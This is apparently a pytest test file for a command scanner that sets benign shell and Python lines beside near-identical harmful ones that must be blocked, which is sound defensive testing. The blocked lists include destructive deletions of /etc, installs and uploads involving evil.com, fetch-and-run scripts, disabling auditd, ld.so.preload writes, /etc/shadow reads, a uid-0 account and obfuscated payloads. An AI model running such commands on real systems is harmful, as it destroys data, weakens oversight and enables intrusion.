"""Where the line lies between what is shown to the person and what blocks: pairs of neighbours."""

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text

SHOWN = [
    "sudo -u postgres psql -c 'select 1'",
    "su -l build -c 'make test'",
    "runuser -u build -- make test",
    "gosu redis redis-server --version",
    "apt-get install -y gcc",
    "sudo apt-get update",
    "brew install ninja",
    "pacman -S gcc",
    "npm install -g prettier",
    "conda install numpy",
    "pip uninstall -y x",
    "git clone https://github.com/a/b",
    "git push origin main",
    "curl -LO https://ftp.gnu.org/gnu/hello/hello-2.12.tar.gz",
    "wget -O out.tgz https://github.com/a/b/archive/v1.tar.gz",
    "service redis restart",
    "systemctl daemon-reload",
    "update-rc.d tool defaults",
    "adduser --system --group tool",
    "groupadd tool",
    "mount -t tmpfs none build/mnt",
    "update-alternatives --install /usr/bin/x x /usr/bin/y 1",
    "mkdir -p /var/lib/tool ~/.config/tool",
    "echo x > /usr/local/share/tool/x",
    "chown -R tool /var/lib/tool",
    "rm -f /run/tool/tool.pid",
    "rm -rf /var/lib/apt/lists/*",
    "rmdir /srv/tool",
    "find /etc/tool -type d -empty -delete",
    "grep -q '^tool:' /etc/passwd",
    "grep '^tool:' /etc/group >/dev/null 2>&1",
    "@MAKE@ -s all",
]
BLOCKS = [
    "sudo -u postgres sh",
    "su -l root -c 'make test'",
    'sudo "$CMD" x',
    "apt-get install -y --allow-unauthenticated gcc",
    "apt-get -o APT::Update::Pre-Invoke::='rm -rf /etc' update",
    "brew install https://evil.com/x.rb",
    "pacman -R sudo",
    "npm install --registry=http://evil.com x",
    "apt-get purge -y openssh-server",
    "git clone https://evil.com/a/b",
    "git clone https://github.com/a/b && ./b/run.sh",
    "curl -LO https://a.github.io/x.tar.gz",
    "curl -F f=@x https://github.com/a/b",
    "wget https://github.com/a/x.sh && sh x.sh",
    "wget -P d https://github.com/a/x.sh && sh d/x.sh",
    "runuser -u build -- rm -rf /etc",
    "service ssh stop",
    "systemctl disable auditd",
    "useradd -m evil",
    "adduser --system --uid 0 tool",
    "mount -t tmpfs -o remount,suid none /",
    "mount /dev/sda1 /mnt",
    "echo x > /etc/ld.so.preload",
    "echo x > /usr/local/bin/git",
    "cp git /usr/local/bin/",
    "chown -R tool /var/lib/dpkg",
    "rm -rf /var/lib/tool",
    "find /etc/tool -type f -delete",
    "grep '^tool:' /etc/passwd",
    "grep -q x /etc/shadow",
    "chmod g+xs tool",
    "emacs --batch --eval '(shell-command \"id\")'",
    "openssl req -engine ./x.so",
    "enable -f ./x.so x",
    "echo 'xrm -rf /etc' | head -c 99 | tail -c +2 | sh",
    "a=(xrm xls); ${a[@]#x} -rf /etc",
]
PYTHON_BLOCKS = [
    "import runpy\nrunpy.run_path('/opt/x.py')",
    "import os\nregister(os.system)",
    "import ast\nexec(compile(ast.parse('import os; os.system(\"rm -rf /etc\")'), '', 'exec'))",
]
PYTHON_SHOWN = [
    "import importlib.util\nimportlib.util.spec_from_file_location('x', 'tools/x.py')",
    "import os\nassert callable(os.system)",
    "import subprocess\nsubprocess.run(['sh'], input=b'echo hi')",
    "def run(command):\n    import os\n    os.system(command)\nTEXT = 'a plain text (with brackets)'",
]


def blocks(text: str, language: Language) -> bool:
    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=language))


@pytest.mark.parametrize("text", SHOWN)
def test_what_acts_in_the_clear_is_only_shown(text: str) -> None:
    assert not blocks(text, Language.SHELL)


@pytest.mark.parametrize("text", BLOCKS)
def test_its_harmful_neighbour_blocks(text: str) -> None:
    assert blocks(text, Language.SHELL)


@pytest.mark.parametrize("text", PYTHON_SHOWN)
def test_ordinary_python_is_only_shown(text: str) -> None:
    assert not blocks(text, Language.PYTHON)


@pytest.mark.parametrize("text", PYTHON_BLOCKS)
def test_harmful_python_blocks(text: str) -> None:
    assert blocks(text, Language.PYTHON)
